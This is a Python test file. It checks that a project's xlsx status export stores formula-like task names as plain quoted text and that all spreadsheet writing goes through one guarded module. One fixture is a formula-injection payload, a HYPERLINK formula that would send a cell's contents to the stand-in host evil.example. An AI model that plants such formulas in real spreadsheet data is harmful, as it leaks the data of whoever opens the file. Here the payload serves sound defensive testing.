"""`flask status export --format xlsx` writes text, never formulas, for names starting with = (D6); the other
xlsx/CSV writers go through supervision/spreadsheets.py, the one writer with the formula guard."""

import re
import zipfile
from pathlib import Path

from sqlalchemy import select

from supervision.config import ROOT
from supervision.milestones.models import Milestone
from tests.workflow import key_project, setup_year

FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
FORMULA_TITLE = "=1+1"


def test_status_export_keeps_a_formula_like_task_name_as_text(runner, db, tmp_path):
    task, q3 = setup_year(runner, db)
    task.name, q3.title = FORMULA_NAME, FORMULA_TITLE
    db.session.commit()
    out = tmp_path / "ledger.xlsx"
    result = runner.invoke(args=["status", "export", "--year", "2025", "--format", "xlsx", "--out", str(out)])
    assert result.exit_code == 0, result.output
    with zipfile.ZipFile(out) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula cell at all
    import openpyxl

    workbook = openpyxl.load_workbook(out)
    cells = [c for row in workbook.active.iter_rows() for c in row if c.value in (FORMULA_NAME, FORMULA_TITLE)]
    assert {c.value for c in cells} == {FORMULA_NAME, FORMULA_TITLE}
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
    workbook.close()
    assert key_project(db, 5).name == FORMULA_NAME
    assert db.session.scalar(select(Milestone.title).where(Milestone.id == q3.id)) == FORMULA_TITLE


def test_no_module_writes_a_spreadsheet_around_the_guarded_writer():
    writers = re.compile(r"csv\.writer\(|\.save\(|\bsheet\.append\(|\.append\(\[|Workbook\(\)")
    offenders = []
    for path in sorted((ROOT / "supervision").rglob("*.py")):
        if path.name == "spreadsheets.py":
            continue
        text = path.read_text()
        if "openpyxl" not in text and "import csv" not in text:
            continue
        for number, line in enumerate(text.splitlines(), start=1):
            if writers.search(line) and "write_sheet" not in line and "append_row" not in line:
                offenders.append(f"{Path(path).relative_to(ROOT)}:{number}: {line.strip()}")
    assert not [o for o in offenders if "Workbook()" not in o], offenders  # a new Workbook() is fine, its cells not
